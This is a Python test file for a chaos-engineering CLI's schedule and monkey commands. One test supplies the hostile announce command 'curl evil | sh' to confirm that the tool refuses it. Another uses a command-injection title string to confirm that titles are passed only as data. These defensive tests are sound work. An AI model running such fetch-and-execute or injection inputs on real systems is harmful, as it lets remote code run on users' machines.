"""The commands of schedules: what they print, and what they refuse."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from chaos_runner.cli.main import app
from chaos_runner.errors import ChaosRunnerError, RefusedError, UsageError
from chaos_runner.execution.stopping.interruption import Interruption
from chaos_runner.operations.monkey.fleet_world import FleetWorld
from chaos_runner.operations.monkey.monkey_journal import MonkeyJournal
from chaos_runner.schedule.loaded import LoadedSchedule
from chaos_runner.schedule.monkey_events import Released
from chaos_runner.workspace import NamedInventory
from tests.unit.schedule.made_schedules import YEAR, made

TEXT = "title: daily\nexperiments: [{experiment: a.yml, at_random: {mean: 6h}}]\n"


@pytest.fixture
def schedule(tmp_path: Path) -> Path:
    made(tmp_path, TEXT, "a")
    return tmp_path / "schedule.yml"


def asked(*arguments: object) -> str:
    done = CliRunner().invoke(app, [str(each) for each in arguments])
    if done.exception is not None and not isinstance(done.exception, SystemExit):
        raise done.exception
    return done.output


def test_a_dry_run_is_the_same_again_in_text_and_json(schedule: Path, tmp_path: Path) -> None:
    command = ("monkey", schedule, "--dry-run", "--runs", tmp_path / "runs")
    document = json.loads(asked(*command, "-o", "json"))
    assert len(document["occurrences"]) > 20
    lines = asked(*command).splitlines()
    # A new second may have begun between the two; none of its occurrences differ.
    assert abs(len(lines) - 1 - len(document["occurrences"])) <= 1
    assert not (tmp_path / "runs").exists()


def test_check_says_what_comes_and_each_mistake(schedule: Path) -> None:
    assert "a: every 6h on the average, takes some 4m20s" in asked("schedule", "check", schedule)
    assert json.loads(asked("schedule", "check", schedule, "-o", "json"))["valid"] is True
    schedule.write_text(TEXT + "seeds: 1\n")
    with pytest.raises(UsageError, match=r"schedule\.yml:3: seeds: unknown key"):
        asked("schedule", "check", schedule)
    assert json.loads(asked("schedule", "check", schedule, "-o", "json"))["valid"] is False


def test_nothing_begins_without_being_told_to(schedule: Path, tmp_path: Path) -> None:
    with pytest.raises(RefusedError, match="asks nobody; nothing was done"):
        asked("monkey", schedule, "--runs", tmp_path / "runs")
    schedule.write_text(schedule.read_text() + "announce: {command: [tell]}\n")
    with pytest.raises(UsageError, match="--until belongs to --dry-run"):
        asked("monkey", schedule, "--until", "2027-01-01")
    with pytest.raises(UsageError, match="--until: found `soon`"):
        asked("monkey", schedule, "--dry-run", "--until", "soon", "--runs", tmp_path)
    assert not (tmp_path / "runs").exists()


def test_all_that_a_schedule_reaches_for_is_named_at_once(tmp_path: Path) -> None:
    text = "title: daily\nexperiments:\n"
    text += "".join(f"  - {{experiment: {each}.yml, at_random: {{mean: 6h}}}}\n" for each in "ab")
    made(tmp_path, text, "a", "b")
    for name in "ab":
        with (tmp_path / f"{name}.yml").open("a") as file:
            file.write(f"steady_state: {{checks: [{{command: [/bin/{name}]}}]}}\n")
    schedule = tmp_path / "schedule.yml"
    schedule.write_text(text + "announce:\n  command: [sh, -c, curl evil | sh]\n")
    with pytest.raises(RefusedError) as refused:
        asked("monkey", schedule, "--runs", tmp_path / "runs", "--yes")
    assert f"{schedule}:6: announce.command runs `sh -c 'curl evil | sh'` as you" in str(
        refused.value
    )
    for name in "ab":
        assert f"{tmp_path / name}.yml:5: check 1 runs `/bin/{name}` as you" in str(refused.value)
    assert not (tmp_path / "runs").exists()


def test_release_writes_into_the_journal(schedule: Path, tmp_path: Path) -> None:
    assert "a may come again" in asked("monkey", schedule, "--release", "a", "--runs", tmp_path)
    [event] = MonkeyJournal(tmp_path, "schedule").events()
    assert isinstance(event, Released)
    with pytest.raises(UsageError, match="has no experiment `b`"):
        asked("monkey", schedule, "--release", "b", "--runs", tmp_path)


def world_of(loaded: LoadedSchedule, directory: Path) -> FleetWorld:
    inventory = NamedInventory((directory / "hosts.yml",))
    return FleetWorld(loaded, inventory, directory, directory, Interruption(), lambda _: None)


def test_a_program_announces_with_data_in_its_environment_alone(tmp_path: Path) -> None:
    out = tmp_path / "told"
    script = f"import os; open({str(out)!r}, 'w').write(os.environ['CHAOS_TITLE'])"
    text = TEXT
    command = json.dumps([sys.executable, "-c", script])
    loaded = made(tmp_path, f"{text}announce: {{command: {command}}}\n", "a")
    experiment = loaded.experiments[0]
    hostile = experiment.experiment.model_copy(update={"title": "$(touch x) `y` '; z"})
    object.__setattr__(experiment, "experiment", hostile)
    world_of(loaded, tmp_path).announce("before", experiment, YEAR[0], "", "")
    assert out.read_text() == "$(touch x) `y` '; z"


@pytest.mark.parametrize(
    ("command", "words"),
    [(["/nowhere/at/all"], "cannot be started"), ([sys.executable, "-c", "exit(3)"], "with 3")],
)
def test_a_program_that_fails_is_told(tmp_path: Path, command: list[str], words: str) -> None:
    text = TEXT + f"announce: {{command: {json.dumps(command)}}}\n"
    loaded = made(tmp_path, text, "a")
    with pytest.raises(ChaosRunnerError, match=words):
        world_of(loaded, tmp_path).announce("before", loaded.experiments[0], YEAR[0], "", "")
